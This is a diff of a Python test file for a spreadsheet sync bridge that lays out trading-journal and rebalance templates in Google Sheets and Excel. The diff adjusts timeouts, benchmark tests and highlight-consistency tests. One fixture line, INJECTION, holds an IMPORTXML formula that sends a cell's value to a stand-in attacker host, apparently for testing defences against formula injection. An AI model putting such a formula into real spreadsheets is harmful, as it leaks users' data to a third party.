@@ -15,11 +15,11 @@ import pytest
 from fake_sheets import FakeSheets, make_client
 
 import sheets_bridge as sb
+from bench.measure import naive_sync, sample_grids
 from leverage import journal, portfolio
 from leverage.errors import InputError
+from leverage.layout import JOURNAL_EVENTS, REBALANCE_POSITIONS, TEMPLATES
 from sheets_bridge.backend import Grid
-from sheets_bridge.measure import sample_grids
-from templates.layout import JOURNAL_EVENTS, REBALANCE_POSITIONS, TEMPLATES
 
 INJECTION = '=IMPORTXML("http://attacker.invalid/?q="&A1,"//a")'
 
@@ -285,12 +285,12 @@ def test_only_changed_rows_are_written(kind: str, fake: FakeSheets, tmp_path: Pa
 
 def test_request_counts_against_naive_per_cell_sync(fake: FakeSheets) -> None:
     client = make_client(fake)
-    counts = sb.request_counts(
-        client, lambda g: fake.create_spreadsheet("bench", sheets=g), (10, 300), naive_rows=5
-    )
-    assert counts["sync_10"] == counts["sync_300"] == 2
+    for rows in (10, 300):
+        key = fake.create_spreadsheet("bench", sheets=sample_grids("journal", rows))
+        assert sb.sync(sb.open_google(key, client=client), "journal").requests == 2
+    key = fake.create_spreadsheet("naive", sheets=sample_grids("journal", 5))
     # open + one worksheet lookup and read per tab, then a lookup + update per computed cell
-    assert counts["naive_5"] >= 5 * 14
+    assert naive_sync(client, key, "journal") >= 5 * 14
 
 
 # ------------------------------------------------------------------------ faults
@@ -299,11 +299,16 @@ def test_request_counts_against_naive_per_cell_sync(fake: FakeSheets) -> None:
 FAULTS = ["429", "500", "503", "timeout", "timeout_applied", "reset", "reset_applied"]
 
 
+# The client gives up after TIMEOUT; an injected stall lasts longer. Not much shorter: on a
+# busy machine a healthy request must still come back within TIMEOUT.
+TIMEOUT, STALL = 1.0, 2.5
+
+
 def _arm(fake: FakeSheets, fault: str, at: int, times: int = 1) -> None:
     if fault.isdigit():
         fake.inject(int(fault), at=at, times=times)
     elif fault.startswith("timeout"):
-        fake.inject_timeout(at=at, seconds=1.0, times=times, applied=fault.endswith("applied"))
+        fake.inject_timeout(at=at, seconds=STALL, times=times, applied=fault.endswith("applied"))
     else:
         fake.inject_reset(at=at, times=times, applied=fault.endswith("applied"))
 
@@ -323,7 +328,7 @@ def test_a_fault_at_any_request_leaves_old_or_new_and_a_rerun_converges(
 ) -> None:
     grids = sample_grids("journal", 30)
     book = Book("google", fake, Path("."), grids,
-                policy=sb.RetryPolicy(max_attempts=1, timeout=0.3, sleep=lambda s: None))
+                policy=sb.RetryPolicy(max_attempts=1, timeout=TIMEOUT, sleep=lambda s: None))
     old = book.values("Events")
     _arm(fake, fault, at)
     with pytest.raises(sb.RequestFailed) as err:
@@ -337,7 +342,7 @@ def test_a_fault_at_any_request_leaves_old_or_new_and_a_rerun_converges(
 
 @pytest.mark.parametrize("fault", FAULTS)
 def test_retries_ride_out_transient_faults(fake: FakeSheets, finished: Grid, fault: str) -> None:
-    book = Book("google", fake, Path("."), sample_grids("journal", 30), timeout=0.3)
+    book = Book("google", fake, Path("."), sample_grids("journal", 30), timeout=TIMEOUT)
     fake.reset_log()
     _arm(fake, fault, at=1, times=2)  # the write fails twice, then goes through
     report = sb.sync(book.backend, "journal")
@@ -547,3 +552,99 @@ def test_init_highlights_once_in_a_local_workbook(tmp_path: Path) -> None:
     d = JOURNAL_EVENTS.letter("liq_distance")
     assert (f"{d}2:{d}1001", f"AND(ISNUMBER({d}2),ISNUMBER(Rules!$B$8),{d}2<Rules!$B$8)") in rules
 
+
+
+# ------------------------------------------------------------------------ one style spec
+
+
+def _excel_rules(ws: Any) -> set[tuple[str, str, str]]:
+    """(range, formula, fill colour) of every conditional format of an openpyxl sheet."""
+    return {(str(cf.sqref), r.formula[0], r.dxf.fill.fgColor.rgb[-6:])
+            for cf in ws.conditional_formatting for r in cf.rules}
+
+
+def test_rebalance_amber_highlight_reaches_both_synced_sheets(
+    fake: FakeSheets, tmp_path: Path
+) -> None:
+    from leverage.layout import AMBER_FILL
+
+    alloc, move = (REBALANCE_POSITIONS.letter(k) for k in ("allocated", "move"))
+    formula = f"AND(ISNUMBER({alloc}2),ISNUMBER({move}2),{alloc}2<{move}2)"
+
+    key = fake.create_spreadsheet("hl", sheets={"Sheet1": [[]]})
+    sb.init(sb.open_google(key, client=make_client(fake)), "rebalance")
+    google = [(r["booleanRule"]["condition"]["values"][0]["userEnteredValue"],
+               r["booleanRule"]["format"]["backgroundColor"])
+              for r in fake.conditional_formats(key, "Positions")]
+    amber = {"red": 0xFF / 255, "green": 0xEB / 255, "blue": 0x9C / 255}
+    assert ("=" + formula, amber) in google
+
+    path = tmp_path / "r.xlsx"
+    sb.init(sb.open_local(path), "rebalance")
+    local = _excel_rules(openpyxl.load_workbook(path)["Positions"])
+    assert (f"{alloc}2:{alloc}1001", formula, AMBER_FILL) in local
+
+
+@pytest.mark.parametrize("template", ["journal", "rebalance"])
+def test_synced_and_built_workbooks_share_highlights_and_drop_downs(
+    tmp_path: Path, template: str
+) -> None:
+    import templates
+
+    build = templates.build_journal if template == "journal" else templates.build_rebalance
+    built = openpyxl.load_workbook(build(tmp_path / "built.xlsx", mode="native"))
+    sb.init(sb.open_local(tmp_path / "synced.xlsx"), template)
+    synced = openpyxl.load_workbook(tmp_path / "synced.xlsx")
+    for sheet in TEMPLATES[template]:
+        def rules(ws: Any) -> set[tuple[str, str]]:
+            return {(f, fill) for _, f, fill in _excel_rules(ws)}
+
+        def lists(ws: Any) -> set[str]:
+            return {dv.formula1 for dv in ws.data_validations.dataValidation
+                    if dv.type == "list" and dv.formula1.startswith('"')}
+
+        assert rules(built[sheet.title]) == rules(synced[sheet.title])
+        assert lists(built[sheet.title]) == lists(synced[sheet.title])
+        assert len(rules(synced[sheet.title])) == len(sheet.highlights)
+
+
+def test_the_bridge_imports_without_lxml(tmp_path: Path) -> None:
+    """The [sheets] extra does not install lxml: nothing init (with the worked sample) and
+    sync import may need it."""
+    import subprocess
+    import sys
+
+    script = tmp_path / "no_lxml.py"
+    script.write_text(
+        "import sys\n"
+        "class Block:\n"
+        "    def find_spec(self, name, path=None, target=None):\n"
+        "        if name == 'lxml' or name.startswith('lxml.'):\n"
+        "            raise ImportError('lxml is blocked')\n"
+        "sys.meta_path.insert(0, Block())\n"
+        "import sheets_bridge, sheets_bridge.cli\n"
+        "from leverage.cli import main\n"
+        "book = sys.argv[1]\n"
+        "init = ['sheets', 'init', '--file', book, '--template', 'journal', '--sample']\n"
+        "assert main(init) == 0\n"
+        "assert main(['sheets', 'sync', '--file', book]) == 0\n"
+        "assert not [m for m in sys.modules if m.split('.')[0] == 'lxml']\n"
+    )
+    env = {**os.environ, "OPENPYXL_LXML": "False"}
+    done = subprocess.run([sys.executable, str(script), str(tmp_path / "j.xlsx")],
+                          capture_output=True, text=True, env=env, timeout=120)
+    assert done.returncode == 0, done.stderr[-2000:]
+    assert "laid out the journal template" in done.stdout
+
+
+def test_the_layout_spec_needs_no_spreadsheet_library() -> None:
+    import subprocess
+    import sys
+
+    code = ("import sys, leverage.layout\n"
+            "print(sorted({m.split('.')[0] for m in sys.modules} & "
+            "{'openpyxl', 'lxml', 'gspread', 'templates', 'sheets_bridge', 'requests'}))")
+    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
+                          timeout=60)
+    assert done.returncode == 0, done.stderr[-2000:]
+    assert done.stdout.strip() == "[]"
